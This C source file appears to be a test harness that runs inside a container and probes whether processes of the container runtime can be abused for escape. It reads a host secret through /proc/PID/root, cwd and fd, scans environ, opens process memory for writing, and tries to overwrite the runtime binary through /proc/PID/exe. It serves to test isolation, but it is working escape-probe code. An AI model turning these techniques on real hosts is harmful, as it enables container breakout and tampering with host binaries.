/* spy SECRET_FILE WORD SECONDS : runs in a container and watches the pid namespace
 * for processes of the runtime, those whose program is none of the container's. Of
 * each it tries what ptrace(2) rights would allow. It prints
 *
 *   seen          once, when there was such a process at all
 *   root          SECRET_FILE of the host was read through /proc/PID/root
 *   cwd           ... through /proc/PID/cwd
 *   descriptor    ... through a directory among /proc/PID/fd
 *   environment   WORD, of the caller's environment, was read in /proc/PID/environ
 *   memory        /proc/PID/mem was opened for writing
 *   binary        /proc/PID/exe was opened (O_PATH): no harm yet
 *   overwritten   and later, through the held descriptor, for writing
 *
 * each at most once. An attacker who needs luck gets it by trying fast, so there is
 * no waiting in the loop. */
#define _GNU_SOURCE
#include <ctype.h>
#include <dirent.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>
#include <unistd.h>

static const char *secret_file, *word;
static int held[256], held_count;

static void report(const char *what)
{
    static const char *told[16];
    int i;
    for (i = 0; told[i]; i++)
        if (strcmp(told[i], what) == 0)
            return;
    told[i] = what;
    printf("%s\n", what);
    fflush(stdout);
}

/* Whose PID's program is. */
enum owner { UNKNOWN, OURS, FOREIGN };
static enum owner owner(const char *pid)
{
    char path[64], target[PATH_MAX];
    snprintf(path, sizeof path, "/proc/%.20s/exe", pid);
    ssize_t length = readlink(path, target, sizeof target - 1);
    if (length < 0)
        return UNKNOWN;
    target[length] = 0;
    return strcmp(target, "/bin/busybox") == 0 || strcmp(target, "/bin/spy") == 0 ? OURS : FOREIGN;
}

/* Whether the process is there, is no kernel thread's leftover and not yet ours. */
static int is_runtime(const char *pid)
{
    char path[64], text[512], *end;
    if (owner(pid) == OURS)
        return 0;
    snprintf(path, sizeof path, "/proc/%.20s/stat", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return 0;
    ssize_t length = read(fd, text, sizeof text - 1);
    close(fd);
    if (length <= 0)
        return 0;
    text[length] = 0;
    end = strrchr(text, ')');
    /* A zombie has nothing left to read, whoever's it is. */
    return end && end[2] != 'Z' && end[2] != 'X';
}

/* Reads the host's secret from DIR upwards: below a foreign root there is no other `..` to stop at. */
static int has_secret(int dir)
{
    char path[PATH_MAX], text[256];
    for (int climb = 0; climb < 2; climb++) {
        snprintf(path, sizeof path, "%s%s", climb ? "../../../../../../../../../../.." : ".", secret_file);
        int fd = openat(dir, path, O_RDONLY | O_CLOEXEC);
        if (fd < 0)
            continue;
        ssize_t length = read(fd, text, sizeof text - 1);
        close(fd);
        if (length > 0) {
            text[length] = 0;
            if (strstr(text, "the host's secret"))
                return 1;
        }
    }
    return 0;
}

static void try_directory(const char *path, const char *what)
{
    int fd = open(path, O_PATH | O_DIRECTORY | O_CLOEXEC);
    if (fd < 0)
        return;
    if (has_secret(fd))
        report(what);
    close(fd);
}

static void try_environment(const char *pid)
{
    static char text[65536];
    char path[64];
    snprintf(path, sizeof path, "/proc/%.20s/environ", pid);
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd < 0)
        return;
    ssize_t length = read(fd, text, sizeof text);
    close(fd);
    if (length > 0 && memmem(text, length, word, strlen(word)))
        report("environment");
}

static void try_memory(const char *pid)
{
    char path[64];
    snprintf(path, sizeof path, "/proc/%.20s/mem", pid);
    int fd = open(path, O_RDWR | O_CLOEXEC);
    if (fd < 0)
        return;
    /* The container's program may have been executed meanwhile, and may even have ended: then it was that one's memory. */
    if (owner(pid) == FOREIGN)
        report("memory");
    close(fd);
}

static void try_descriptors(const char *pid)
{
    char path[300];
    snprintf(path, sizeof path, "/proc/%.20s/fd", pid);
    DIR *dir = opendir(path);
    if (!dir)
        return;
    struct dirent *entry;
    while ((entry = readdir(dir))) {
        if (!isdigit((unsigned char)entry->d_name[0]))
            continue;
        snprintf(path, sizeof path, "/proc/%.20s/fd/%.20s", pid, entry->d_name);
        try_directory(path, "descriptor");
    }
    closedir(dir);
}

static void hold_binary(const char *pid)
{
    char path[64], target[PATH_MAX];
    snprintf(path, sizeof path, "/proc/%.20s/exe", pid);
    if (held_count == 256)
        return;
    int fd = open(path, O_PATH | O_CLOEXEC);
    if (fd < 0)
        return;
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    ssize_t length = readlink(path, target, sizeof target - 1);
    if (length > 0)
        target[length] = 0;
    if (length <= 0 || strcmp(target, "/bin/busybox") == 0 || strcmp(target, "/bin/spy") == 0) {
        close(fd);
        return;
    }
    report("binary");
    held[held_count++] = fd;
}

static void overwrite_binaries(void)
{
    char path[64];
    for (int i = 0; i < held_count; i++) {
        snprintf(path, sizeof path, "/proc/self/fd/%d", held[i]);
        /* ETXTBSY for as long as it runs anywhere. */
        int fd = open(path, O_WRONLY | O_CLOEXEC);
        if (fd < 0)
            continue;
        if (write(fd, "overwritten", 11) == 11)
            report("overwritten");
        close(fd);
    }
}

int main(int argc, char **argv)
{
    if (argc != 4)
        return 2;
    secret_file = argv[1];
    word = argv[2];
    time_t end = time(NULL) + atoi(argv[3]);
    DIR *proc = opendir("/proc");
    if (!proc)
        return 1;
    printf("watching\n");
    fflush(stdout);
    while (time(NULL) < end) {
        struct dirent *entry;
        rewinddir(proc);
        while ((entry = readdir(proc))) {
            char path[64];
            const char *pid = entry->d_name;
            if (!isdigit((unsigned char)pid[0]) || !is_runtime(pid))
                continue;
            report("seen");
            hold_binary(pid);
            snprintf(path, sizeof path, "/proc/%.20s/root", pid);
            try_directory(path, "root");
            snprintf(path, sizeof path, "/proc/%.20s/cwd", pid);
            try_directory(path, "cwd");
            try_descriptors(pid);
            try_environment(pid);
            try_memory(pid);
        }
        overwrite_binaries();
    }
    return 0;
}
